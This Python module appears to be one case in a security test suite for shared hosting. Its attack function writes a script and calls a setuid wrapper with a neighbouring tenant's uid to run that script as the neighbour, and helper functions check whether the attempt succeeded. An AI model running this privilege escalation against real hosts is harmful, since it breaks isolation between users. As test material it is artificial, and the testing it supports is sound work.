"""Call it as a tenant's script, for the neighbour."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from workloads.attacks.scene import Given, Scene

PRECEDENT = "suEXEC's security model, step 3: who may call it"
SHARED = True
CONTROL = "careless_wrapper"


def attack(given: Given) -> object:
    import os

    uid = str(given.neighbour_uid)
    # The neighbour's site is closed; a program that everybody can reach lies in one's own.
    os.chdir(given.drop)
    with open("program.py", "w") as file:
        file.write(f"#!/bin/sh\necho {given.token} $(id -u)\n")
    os.chmod("program.py", 0o755)
    read, write = os.pipe()
    process = os.posix_spawn(
        given.wrapper,
        [given.wrapper, uid, uid, "program.py"],
        {},
        file_actions=[(os.POSIX_SPAWN_DUP2, write, 1), (os.POSIX_SPAWN_DUP2, write, 2)],
    )
    os.close(write)
    os.waitpid(process, 0)
    return os.read(read, 4096)


def missing(scene: Scene) -> str | None:
    return None if scene.wrapper else "no setuid program starts scripts here"


def proof(scene: Scene) -> str | None:
    return scene.program_ran()
